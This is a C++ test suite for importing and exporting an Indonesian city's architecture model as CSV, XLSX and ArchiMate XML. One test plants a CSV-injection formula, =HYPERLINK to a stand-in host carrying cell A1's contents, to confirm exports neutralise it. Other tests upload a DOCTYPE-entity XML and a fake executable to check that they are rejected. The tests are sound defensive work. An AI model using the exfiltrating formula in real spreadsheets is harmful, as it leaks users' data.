// Import and export of the architecture model: dry runs report every problem of every row, with what
// to write instead, and change nothing; the template and the exports speak Indonesian, carry the
// tenant's allowed values, and what the console exports imports back unchanged.
#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <tuple>

#include "api_harness.hpp"
#include "core/crypto.hpp"
#include "interchange/csv.hpp"
#include "interchange/xlsx.hpp"

using namespace simpul;
using namespace simpul::api_test;

class ArchitectureTransferTest : public test_support::DatabaseTest {
 protected:
  void SetUp() override {
    DatabaseTest::SetUp();
    crypto::use_minimum_password_cost_for_tests();
  }
};

namespace {

const std::string kXlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

Reply upload(Client& c, const std::string& query, const std::string& type, const std::string& body) {
  return c.send("POST", "/api/architecture/import?" + query, body, {{"content-type", type}});
}

/// A small model built through the API, with every domain, a level-4 element and attributes.
void build_model(Client& c) {
  auto ag = agency_code(c, 0), other = agency_code(c, 1);
  std::string elements =
      "code;name;domain;level;parent_code;reference_code;owner_agency_code;state;description;attr.service_type;attr.infra_type\n"
      "L-1;Layanan Perizinan \"Satu Pintu\";layanan;3;;RAL.02;" +
      ag +
      ";as_is;Izin & non-izin <cepat>;publik;\n"
      "L-1.1;Izin Usaha Mikro;layanan;4;L-1;;" +
      ag +
      ";to_be;;;\n"
      "PB-1;Verifikasi Berkas;proses_bisnis;3;;;" +
      ag +
      ";as_is;;;\n"
      "A-1;SiCantik Cloud;aplikasi;3;;;" +
      other +
      ";as_is;;;\n"
      "D-1;Data Perizinan;data_informasi;3;;;" +
      other +
      ";as_is;;;\n"
      "I-1;Pusat Data Kota;infrastruktur;3;;;" +
      other +
      ";as_is;;;pusat_data\n"
      "K-1;Enkripsi Basis Data;keamanan;3;;;" +
      other + ";to_be;;;\n";
  ASSERT_EQ(upload(c, "dry_run=false&kind=elements", "text/csv", elements).status, 200);
  std::string relations =
      "source_code,type,target_code,description\n"
      "L-1,realised_by,PB-1,\nPB-1,supported_by,A-1,\nA-1,uses_data,D-1,\nA-1,runs_on,I-1,\nD-1,protected_by,K-1,dienkripsi\n";
  auto r = upload(c, "dry_run=false&kind=relations", "text/csv", relations);
  ASSERT_EQ(r.status, 200) << r.body;
  ASSERT_EQ(r.json.at("relations_created").as_int64(), 5);
}

}  // namespace

TEST_P(ArchitectureTransferTest, ADryRunReportsEveryBadRowAndChangesNothing) {
  Instance in(GetParam());
  auto c = admin_client(in, "bontang");
  auto ag = agency_code(c, 0);
  auto before = ledger_size(in);
  std::string csv =
      "code,name,domain,owner_agency_code,state\n"
      "L-1,Layanan Baik,layanan," +
      ag +
      ",as_is\n"
      "L-2,Layanan Tanpa Pemilik,layanan,TIDAK-ADA,as_is\n"
      "X-1,Sihir,sihir," +
      ag +
      ",as_is\n"
      "L-1,Duplikat Dalam Berkas,aplikasi," +
      ag +
      ",as_is\n"
      "L-3,Status Aneh,layanan," +
      ag + ",rusak\n";
  auto dry = upload(c, "dry_run=true&kind=elements", "text/csv", csv);
  ASSERT_EQ(dry.status, 200) << dry.body;
  EXPECT_FALSE(dry.json.at("ok").as_bool());
  std::vector<std::int64_t> rows;
  for (const auto& p : dry.json.at("problems").as_array()) rows.push_back(p.at("row").as_int64());
  EXPECT_EQ(rows, (std::vector<std::int64_t>{3, 4, 5, 6}));
  EXPECT_EQ(dry.json.at("problems").at(0).at("column").as_string(), "owner_agency_code");

  auto real = upload(c, "dry_run=false&kind=elements", "text/csv", csv);
  EXPECT_EQ(real.error_code(), "import.has_problems");
  EXPECT_EQ(c.get("/api/architecture/elements").json.at("total").as_int64(), 0);
  EXPECT_EQ(ledger_size(in), before);

  EXPECT_EQ(upload(c, "dry_run=true", kXlsx, "PK\x03\x04 this is not a workbook").error_code(), "import.invalid_file");
  EXPECT_EQ(upload(c, "dry_run=true", "application/xml", "<!DOCTYPE x [<!ENTITY a 'aaaa'>]><model/>").error_code(),
            "import.invalid_file");
  EXPECT_EQ(upload(c, "dry_run=true", "application/x-msdownload", "MZ").error_code(), "request.unsupported_media_type");
  EXPECT_EQ(upload(c, "dry_run=perhaps", "text/csv", csv).error_code(), "request.invalid_query");
  EXPECT_EQ(upload(c, "dry_run=true&kind=elements", "text/csv", "code,name\nL-1,x\n")
                .json.at("problems")
                .at(0)
                .at("column")
                .as_string(),
            "Domain");
  EXPECT_EQ(ledger_size(in), before);
}

TEST_P(ArchitectureTransferTest, ArchiMateExportImportedElsewhereGivesTheSameModel) {
  Instance a(GetParam());
  auto ca = admin_client(a, "balikpapan");
  build_model(ca);
  auto xml = ca.get("/api/architecture/export.xml");
  ASSERT_EQ(xml.status, 200);
  EXPECT_NE(xml.header("Content-Disposition").find("attachment"), std::string::npos);
  EXPECT_NE(xml.body.find("xsi:type=\"BusinessService\""), std::string::npos);

  Instance b(GetParam());
  auto cb = admin_client(b, "balikpapan");
  auto imported = upload(cb, "dry_run=false", "application/xml", xml.body);
  ASSERT_EQ(imported.status, 200) << imported.body;
  EXPECT_EQ(imported.json.at("elements_created").as_int64(), 7);
  EXPECT_EQ(imported.json.at("relations_created").as_int64(), 5);
  EXPECT_TRUE(cb.get("/api/architecture/export.xml").body == xml.body) << "the re-exported model differs";

  // Importing the same file again changes nothing and says so.
  auto again = upload(cb, "dry_run=false", "application/xml", xml.body);
  EXPECT_EQ(again.json.at("elements_updated").as_int64(), 0);
  EXPECT_EQ(again.json.at("elements_unchanged").as_int64(), 7);
  EXPECT_EQ(again.json.at("relations_created").as_int64(), 0);
  EXPECT_TRUE(cb.get("/api/architecture/export.xml").body == xml.body) << "the re-exported model differs";
}

TEST_P(ArchitectureTransferTest, XlsxExportImportedElsewhereGivesTheSameModel) {
  Instance a(GetParam());
  auto ca = admin_client(a, "balikpapan");
  build_model(ca);
  auto xlsx = ca.get("/api/architecture/export.xlsx");
  ASSERT_EQ(xlsx.status, 200);
  Instance b(GetParam());
  auto cb = admin_client(b, "balikpapan");
  auto imported = upload(cb, "dry_run=false", kXlsx, xlsx.body);
  ASSERT_EQ(imported.status, 200) << imported.body;
  EXPECT_EQ(imported.json.at("elements_created").as_int64(), 7);
  EXPECT_TRUE(cb.get("/api/architecture/export.xml").body == ca.get("/api/architecture/export.xml").body)
      << "models differ";
}

namespace {

const std::string kArchBom = "\xEF\xBB\xBF";

/// Rows with Indonesian headers and labels, agencies by short and full name, in mixed case.
void add_indonesian_rows(Client& c) {
  std::string csv =
      kArchBom +
      "Kode;Nama;DOMAIN;Perangkat Daerah;kondisi;Kategori Aplikasi;Sektor Layanan;Jenis Layanan;"
      "Keterangan\r\n"
      "A-2;Aplikasi Kepegawaian;Aplikasi;bagian organisasi;Target;aplikasi umum;;;\"catatan; dengan titik koma\"\r\n"
      "L-2;Layanan Kesehatan;LAYANAN;Dinas Komunikasi dan Informatika Kota Balikpapan;saat ini;;"
      "Kesehatan;Layanan Publik;\r\n";
  auto r = upload(c, "dry_run=false", "text/csv", csv);
  ASSERT_EQ(r.status, 200) << r.body;
  ASSERT_EQ(r.json.at("elements_created").as_int64(), 2) << r.body;
}

/// The (sheet, row, column) of every problem, in the answer's order.
std::vector<std::tuple<std::string, std::int64_t, std::string>> arch_problem_places(const Reply& r) {
  std::vector<std::tuple<std::string, std::int64_t, std::string>> out;
  for (const auto& p : r.json.at("problems").as_array())
    out.emplace_back(text_of(p, "sheet"), p.at("row").as_int64(), text_of(p, "column"));
  return out;
}

/// The first problem at this place; fails the test when there is none.
boost::json::object arch_problem_at(const Reply& r, const std::string& sheet, std::int64_t row,
                                    const std::string& column) {
  for (const auto& p : r.json.at("problems").as_array())
    if (text_of(p, "sheet") == sheet && p.at("row").as_int64() == row && text_of(p, "column") == column)
      return p.as_object();
  ADD_FAILURE() << "no problem at " << sheet << " row " << row << " column " << column << ": " << r.body;
  return {};
}

void expect_no_change(const Reply& dry, std::int64_t elements, std::int64_t relations, const std::string& what) {
  ASSERT_EQ(dry.status, 200) << what << ": " << dry.body;
  EXPECT_TRUE(dry.json.at("ok").as_bool()) << what << ": " << dry.body;
  EXPECT_EQ(dry.json.at("problems").as_array().size(), 0u) << what;
  EXPECT_EQ(dry.json.at("elements_created").as_int64(), 0) << what;
  EXPECT_EQ(dry.json.at("elements_updated").as_int64(), 0) << what << ": " << dry.body;
  EXPECT_EQ(dry.json.at("relations_created").as_int64(), 0) << what;
  EXPECT_EQ(dry.json.at("elements_unchanged").as_int64(), elements) << what;
  EXPECT_EQ(dry.json.at("relations_unchanged").as_int64(), relations) << what;
}

}  // namespace

TEST_P(ArchitectureTransferTest, TheConsolesExportsImportBackWithNoProblemAndNoChange) {
  Instance in(GetParam());
  auto c = admin_client(in, "balikpapan");
  build_model(c);
  add_indonesian_rows(c);
  auto before = ledger_size(in);
  auto model_before = c.get("/api/architecture/export.xml").body;

  auto xlsx = c.get("/api/architecture/export.xlsx");
  ASSERT_EQ(xlsx.status, 200);
  expect_no_change(upload(c, "dry_run=true", kXlsx, xlsx.body), 9, 5, "XLSX");
  auto sheets = interchange::read_xlsx(xlsx.body);
  ASSERT_GE(sheets.size(), 2u);
  EXPECT_EQ(sheets[0].name, "Elemen");
  EXPECT_EQ(sheets[0].rows[0][0], "Kode");
  EXPECT_EQ(sheets[0].rows[0][6], "Perangkat Daerah");
  EXPECT_EQ(sheets[1].rows[0], (interchange::Row{"Kode Sumber", "Jenis Relasi", "Kode Tujuan", "Keterangan"}));

  // CSV, one file per sheet, ';' for Excel with Indonesian regional settings (the default) or ','; both
  // UTF-8 with a byte-order mark.
  for (const std::string separator : {"semicolon", "comma"}) {
    char sep = separator == "comma" ? ',' : ';';
    auto elements = c.get("/api/architecture/export.csv?kind=elements&separator=" + separator);
    ASSERT_EQ(elements.status, 200) << elements.body;
    EXPECT_NE(elements.header("Content-Type").find("text/csv"), std::string::npos);
    EXPECT_NE(elements.header("Content-Disposition").find("attachment"), std::string::npos);
    EXPECT_EQ(elements.body.substr(0, 3), kArchBom) << "UTF-8 with BOM";
    EXPECT_EQ(elements.body.substr(3, 17), std::string("Kode") + sep + "Nama" + sep + "Domain" + sep);
    // Words, not codes: the domain, the state and the values are the labels a user reads.
    EXPECT_NE(elements.body.find(std::string(1, sep) + "Layanan" + sep), std::string::npos);
    EXPECT_NE(elements.body.find("Saat ini"), std::string::npos);
    EXPECT_EQ(elements.body.find("as_is"), std::string::npos);
    expect_no_change(upload(c, "dry_run=true", "text/csv", elements.body), 9, 0, "elements CSV " + separator);

    auto relations = c.get("/api/architecture/export.csv?kind=relations&separator=" + separator);
    ASSERT_EQ(relations.status, 200);
    EXPECT_EQ(relations.body.substr(0, 3), kArchBom);
    EXPECT_EQ(relations.body.substr(3, 25), std::string("Kode Sumber") + sep + "Jenis Relasi" + sep);
    EXPECT_NE(relations.body.find("didukung oleh"), std::string::npos);
    expect_no_change(upload(c, "dry_run=true", "text/csv", relations.body), 0, 5, "relations CSV " + separator);
  }
  EXPECT_EQ(c.get("/api/architecture/export.csv").body.substr(3, 5), "Kode;") << "';' unless asked otherwise";
  EXPECT_EQ(c.get("/api/architecture/export.csv?separator=tab").error_code(), "request.invalid_query");

  // Imported for real, the unchanged file writes nothing, not even a ledger entry.
  auto real = upload(c, "dry_run=false", kXlsx, xlsx.body);
  expect_no_change(real, 9, 5, "real XLSX");
  EXPECT_EQ(ledger_size(in), before);
  EXPECT_TRUE(c.get("/api/architecture/export.xml").body == model_before) << "the model is as it was";
}

TEST_P(ArchitectureTransferTest, ACsvExportWritesFormulasAsTextAndTheImportReadsTheOriginalNames) {
  // OWASP "CSV Injection": a name a spreadsheet would run as a formula is exported with an
  // apostrophe before it (shown as text), and importing the export gives the name as it was.
  Instance in(GetParam());
  auto c = admin_client(in, "balikpapan");
  const std::string name = R"(=HYPERLINK("http://contoh.example/?d="&A1;"Klik"))";
  const std::string description = "@SUM(A1:A9)";
  boost::json::object body{{"domain", "layanan"},
                           {"code", "L-RUMUS"},
                           {"name", name},
                           {"description", description},
                           {"owner_agency_id", agency_id(c, "DISKOMINFO")}};
  auto created = c.post("/api/architecture/elements", boost::json::serialize(body));
  ASSERT_EQ(created.status, 201) << created.body;

  for (const std::string separator : {"semicolon", "comma"}) {
    auto csv = c.get("/api/architecture/export.csv?kind=elements&separator=" + separator);
    ASSERT_EQ(csv.status, 200) << csv.body;
    EXPECT_NE(csv.body.find(R"("'=HYPERLINK(""http://contoh.example/?d=""&A1;""Klik""))"), std::string::npos)
        << csv.body;
    EXPECT_EQ(csv.body.find(R"("=HYPERLINK()"), std::string::npos) << "no cell starts with '='";
    EXPECT_NE(csv.body.find("'@SUM(A1:A9)"), std::string::npos) << csv.body;
    EXPECT_EQ(interchange::read_csv(csv.body).at(1).at(1), name) << "read back without the apostrophe";
    expect_no_change(upload(c, "dry_run=true", "text/csv", csv.body), 1, 0, "CSV " + separator);
  }

  // XLSX writes every text cell as a string cell, never a formula: the name reads back as it is.
  auto xlsx = c.get("/api/architecture/export.xlsx");
  ASSERT_EQ(xlsx.status, 200);
  auto sheets = interchange::read_xlsx(xlsx.body);
  ASSERT_FALSE(sheets.empty());
  ASSERT_GE(sheets[0].rows.size(), 2u);
  EXPECT_EQ(sheets[0].rows[1].at(1), name);

  // Removed and imported again from the export: the original name and description.
  auto csv = c.get("/api/architecture/export.csv?kind=elements");
  ASSERT_EQ(c.del("/api/architecture/elements/" + text_of(created.json, "id")).status, 204);
  auto imported = upload(c, "dry_run=false", "text/csv", csv.body);
  ASSERT_EQ(imported.status, 200) << imported.body;
  EXPECT_EQ(imported.json.at("elements_created").as_int64(), 1) << imported.body;
  auto listed = c.get("/api/architecture/elements?q=L-RUMUS");
  ASSERT_EQ(listed.json.at("items").as_array().size(), 1u) << listed.body;
  EXPECT_EQ(text_of(listed.json.at("items").at(0), "name"), name);
  EXPECT_EQ(text_of(listed.json.at("items").at(0), "description"), description);
}

TEST_P(ArchitectureTransferTest, HeadersAndValuesInIndonesianOrEnglishInAnyCaseAndAgenciesByCodeShortOrFullName) {
  Instance in(GetParam());
  auto c = admin_client(in, "balikpapan");
  add_indonesian_rows(c);
  std::string english =
      "CODE,NAME,Domain,AGENCY,State,Level,Parent Code,Classification,Update frequency\n"
      "D-1,Data Pegawai,data and information,Badan Pengelolaan Keuangan dan Aset Daerah Kota Balikpapan,to-be,3,,"
      "restricted,MONTHLY\n"
      "D-1.1,Data Gaji,DATA_INFORMASI,bpkad,retired,4,d-1,Tertutup,bulanan\n";
  auto r = upload(c, "dry_run=false", "text/csv", english);
  ASSERT_EQ(r.status, 200) << r.body;
  ASSERT_EQ(r.json.at("elements_created").as_int64(), 2) << r.body;

  std::map<std::string, boost::json::object> by_code;
  auto listed = c.get("/api/architecture/elements?per_page=100");  // kept: the loop reads into it
  for (const auto& e : listed.json.at("items").as_array()) by_code[text_of(e, "code")] = e.as_object();
  ASSERT_EQ(by_code.size(), 4u);
  auto diskominfo = agency_id(c, "DISKOMINFO"), bpkad = agency_id(c, "BPKAD");
  EXPECT_EQ(text_of(by_code["A-2"], "domain"), "aplikasi");
  EXPECT_EQ(text_of(by_code["A-2"], "state"), "to_be");
  EXPECT_EQ(text_of(by_code["A-2"], "owner_agency_id"), agency_id(c, "ORGANISASI"))
      << "by the short name, in lower case";
  EXPECT_TRUE(by_code["A-2"].at("attributes") == boost::json::value(boost::json::object{{"category", "aplikasi_umum"}}))
      << json_text(by_code["A-2"].at("attributes"));
  EXPECT_EQ(text_of(by_code["A-2"], "description"), "catatan; dengan titik koma");
  EXPECT_EQ(text_of(by_code["L-2"], "owner_agency_id"), diskominfo) << "by the full name";
  EXPECT_EQ(text_of(by_code["L-2"], "state"), "as_is");
  EXPECT_TRUE(by_code["L-2"].at("attributes") ==
              boost::json::value(boost::json::object{{"service_type", "publik"}, {"sector", "kesehatan"}}))
      << json_text(by_code["L-2"].at("attributes"));
  EXPECT_EQ(text_of(by_code["D-1"], "domain"), "data_informasi");
  EXPECT_EQ(text_of(by_code["D-1"], "owner_agency_id"), bpkad);
  EXPECT_TRUE(by_code["D-1"].at("attributes") ==
              boost::json::value(boost::json::object{{"classification", "terbatas"}, {"update_frequency", "bulanan"}}))
      << json_text(by_code["D-1"].at("attributes"));
  EXPECT_EQ(text_of(by_code["D-1.1"], "state"), "retired");
  EXPECT_EQ(by_code["D-1.1"].at("level").as_int64(), 4);
  EXPECT_EQ(text_of(by_code["D-1.1"], "parent_id"), text_of(by_code["D-1"], "id")) << "the parent's code in any case";
  EXPECT_EQ(text_of(by_code["D-1.1"], "owner_agency_id"), bpkad) << "by the code, in lower case";

  // Relations by their Indonesian or English names.
  auto rel = upload(c, "dry_run=false", "text/csv",
                    "kode sumber;JENIS RELASI;Kode Tujuan\nL-2;Didukung Oleh;A-2\nA-2;uses data;D-1\n");
  ASSERT_EQ(rel.status, 200) << rel.body;
  EXPECT_EQ(rel.json.at("relations_created").as_int64(), 2) << rel.body;
}

TEST_P(ArchitectureTransferTest, EveryProblemOfEveryRowIsReportedInOnePassWithWhatToWrite) {
  Instance in(GetParam());
  auto c = admin_client(in, "balikpapan");
  auto before = ledger_size(in);
  interchange::Sheet elements{"Elemen",
                              {{"Kode", "Nama", "Domain", "Perangkat Daerah", "Kondisi", "Level", "Kategori Aplikasi"},
                               {"L-1", "Layanan Baik", "Layanan", "DISKOMINFO", "Saat ini", "", ""},
                               {"L-2", "", "Sihir", "Dinas Tidak Ada", "Rusak", "", ""},
                               {"kode salah!", "Layanan Aneh", "layanan", "Diskominfo", "", "5", ""},
                               {"L-1", "Kembar", "Layanan", "DISKOMINFO", "", "", ""},
                               {"A-1", "Aplikasi", "Aplikasi", "BPKAD", "", "", "Aplikasi Ajaib"},
                               {"A-2", "Aplikasi Dua", "Aplikasi", "BPKAD", "", "", "Aplikasi Umum"}}};
  interchange::Sheet relations{"Relasi",
                               {{"Kode Sumber", "Jenis Relasi", "Kode Tujuan"},
                                {"L-1", "didukung oleh", "A-2"},
                                {"L-1", "menyayangi", "X-9"},
                                {"L-1", "berjalan di", "A-2"},
                                {"L-1", "didukung oleh", "A-1"}}};
  auto dry = upload(c, "dry_run=true", kXlsx, interchange::write_xlsx({elements, relations}));
  ASSERT_EQ(dry.status, 200) << dry.body;
  EXPECT_FALSE(dry.json.at("ok").as_bool());
  EXPECT_EQ(dry.json.at("rows").as_int64(), 10) << "every data row of the file is counted, good or bad";
  using Place = std::tuple<std::string, std::int64_t, std::string>;
  EXPECT_EQ(arch_problem_places(dry), (std::vector<Place>{{"Elemen", 3, "Nama"},
                                                          {"Elemen", 3, "Domain"},
                                                          {"Elemen", 3, "Kondisi"},
                                                          {"Elemen", 3, "Perangkat Daerah"},
                                                          {"Elemen", 4, "Kode"},
                                                          {"Elemen", 4, "Level"},
                                                          {"Elemen", 5, "Kode"},
                                                          {"Elemen", 6, "Kategori Aplikasi"},
                                                          {"Relasi", 3, "Kode Tujuan"},
                                                          {"Relasi", 3, "Jenis Relasi"},
                                                          {"Relasi", 4, "Jenis Relasi"}}))
      << dry.body << "\n(row 5 of Relasi waits for A-1's own fix and is not reported twice)";
  for (const auto& p : dry.json.at("problems").as_array()) {
    EXPECT_FALSE(text_of(p, "message").empty());
    EXPECT_FALSE(text_of(p, "hint").empty()) << "what to write instead: " << text_of(p, "message");
    EXPECT_FALSE(text_of(p, "message_en").empty());
    EXPECT_FALSE(text_of(p, "hint_en").empty());
  }
  EXPECT_NE(text_of(arch_problem_at(dry, "Elemen", 3, "Domain"), "hint").find("Proses Bisnis"), std::string::npos);
  EXPECT_NE(text_of(arch_problem_at(dry, "Elemen", 3, "Kondisi"), "hint").find("Dihentikan"), std::string::npos);
  EXPECT_NE(text_of(arch_problem_at(dry, "Elemen", 3, "Perangkat Daerah"), "hint").find("DISKOMINFO"),
            std::string::npos);
  EXPECT_NE(text_of(arch_problem_at(dry, "Elemen", 5, "Kode"), "message").find("baris 2"), std::string::npos);
  EXPECT_NE(text_of(arch_problem_at(dry, "Elemen", 6, "Kategori Aplikasi"), "hint").find("Aplikasi Khusus"),
            std::string::npos);
  EXPECT_NE(text_of(arch_problem_at(dry, "Elemen", 6, "Kategori Aplikasi"), "message").find("Pasal 22"),
            std::string::npos)
      << "the profile's list is cited with its article";
  EXPECT_EQ(text_of(arch_problem_at(dry, "Relasi", 4, "Jenis Relasi"), "hint"), "Tulis salah satu: didukung oleh.")
      << "the only type that joins a service to an application";

  auto real = upload(c, "dry_run=false", kXlsx, interchange::write_xlsx({elements, relations}));
  EXPECT_EQ(real.error_code(), "import.has_problems");
  EXPECT_EQ(c.get("/api/architecture/elements").json.at("total").as_int64(), 0);
  EXPECT_EQ(ledger_size(in), before);

  // A sheet whose header lacks columns still says how many rows it holds: never "n problems in 0 rows".
  auto header = upload(c, "dry_run=true", "text/csv", "Kode;Nama\nL-1;a\nL-2;b\nL-3;c\n");
  ASSERT_EQ(header.status, 200);
  EXPECT_EQ(header.json.at("rows").as_int64(), 3);
  EXPECT_EQ(arch_problem_places(header), (std::vector<Place>{{"CSV", 1, "Domain"}, {"CSV", 1, "Perangkat Daerah"}}));
  EXPECT_NE(text_of(header.json.at("problems").at(0), "hint").find("Tambahkan kolom"), std::string::npos);
}

TEST_P(ArchitectureTransferTest, TheTemplateSpeaksIndonesianAndListsTheValuesOfTheTenantsProfile) {
  Instance in(GetParam());
  auto balikpapan = admin_client(in, "balikpapan");
  auto madiun = admin_client(in, "madiun");

  auto book = balikpapan.get("/api/architecture/import/template.xlsx");
  ASSERT_EQ(book.status, 200);
  EXPECT_NE(book.header("Content-Disposition").find("attachment"), std::string::npos);
  auto sheets = interchange::read_xlsx(book.body);
  ASSERT_EQ(sheets.size(), 4u);
  EXPECT_EQ(sheets[0].name, "Elemen");
  EXPECT_EQ(sheets[1].name, "Relasi");
  EXPECT_EQ(sheets[2].name, "Pilihan");
  EXPECT_EQ(sheets[3].name, "Petunjuk");
  ASSERT_EQ(sheets[0].rows.size(), 1u) << "headers only: no example row to import by mistake";
  auto head = sheets[0].rows[0];
  EXPECT_EQ(interchange::Row(head.begin(), head.begin() + 9),
            (interchange::Row{"Kode", "Nama", "Domain", "Level", "Kode Induk", "Kode Referensi", "Perangkat Daerah",
                              "Kondisi", "Keterangan"}));
  EXPECT_EQ(std::count(head.begin(), head.end(), "Tahap Siklus Hidup"), 0) << "the lifecycle sets the stage";
  auto has_value = [](const interchange::Sheet& s, const std::string& column, const std::string& value) {
    for (const auto& row : s.rows)
      if (row.size() >= 2 && row[0] == column && row[1] == value) return true;
    return false;
  };
  const auto& values = sheets[2];
  EXPECT_TRUE(has_value(values, "Domain", "Proses Bisnis"));
  EXPECT_TRUE(has_value(values, "Kondisi", "Dihentikan"));
  EXPECT_TRUE(has_value(values, "Jenis Relasi", "didukung oleh"));
  EXPECT_TRUE(has_value(values, "Perangkat Daerah", "DISKOMINFO"));
  EXPECT_TRUE(has_value(values, "Kategori Aplikasi", "Aplikasi Khusus"));
  EXPECT_FALSE(has_value(values, "Kategori Aplikasi", "Aplikasi Khusus Berbagi Pakai"));
  EXPECT_TRUE(has_value(values, "Kode Referensi", "RAL.02"));
  // Madiun's profile has its own application categories.
  auto madiun_values = interchange::read_xlsx(madiun.get("/api/architecture/import/template.xlsx").body)[2];
  EXPECT_TRUE(has_value(madiun_values, "Kategori Aplikasi", "Aplikasi Khusus Berbagi Pakai"));
  EXPECT_FALSE(has_value(madiun_values, "Perangkat Daerah", "BAPPEDALITBANG")) << "another tenant's agency";

  // The empty template passes the check.
  auto dry = upload(balikpapan, "dry_run=true", kXlsx, book.body);
  ASSERT_EQ(dry.status, 200) << dry.body;
  EXPECT_TRUE(dry.json.at("ok").as_bool()) << dry.body;
  EXPECT_EQ(dry.json.at("rows").as_int64(), 0);

  // CSV: one template per kind of row, and the allowed values as a list of their own.
  auto csv = balikpapan.get("/api/architecture/import/template.csv");
  ASSERT_EQ(csv.status, 200);
  EXPECT_EQ(csv.body.substr(0, 3 + 15), kArchBom + "Kode;Nama;Domai");
  EXPECT_EQ(balikpapan.get("/api/architecture/import/template.csv?kind=relations&separator=comma").body,
            kArchBom + "Kode Sumber,Jenis Relasi,Kode Tujuan,Keterangan\r\n");
  auto listed = madiun.get("/api/architecture/import/allowed-values.csv");
  ASSERT_EQ(listed.status, 200);
  auto rows = interchange::read_csv(listed.body);
  ASSERT_FALSE(rows.empty());
  EXPECT_EQ(rows[0], (interchange::Row{"Kolom", "Tulis", "Juga diterima", "Keterangan"}));
  EXPECT_TRUE(has_value({"", rows}, "Kategori Aplikasi", "Aplikasi Khusus Berbagi Pakai"));
  EXPECT_EQ(balikpapan.get("/api/architecture/import/template.csv?kind=initiatives").error_code(),
            "request.invalid_query");
}

INSTANTIATE_TEST_SUITE_P(Databases, ArchitectureTransferTest, ::testing::ValuesIn(test_support::backends()));
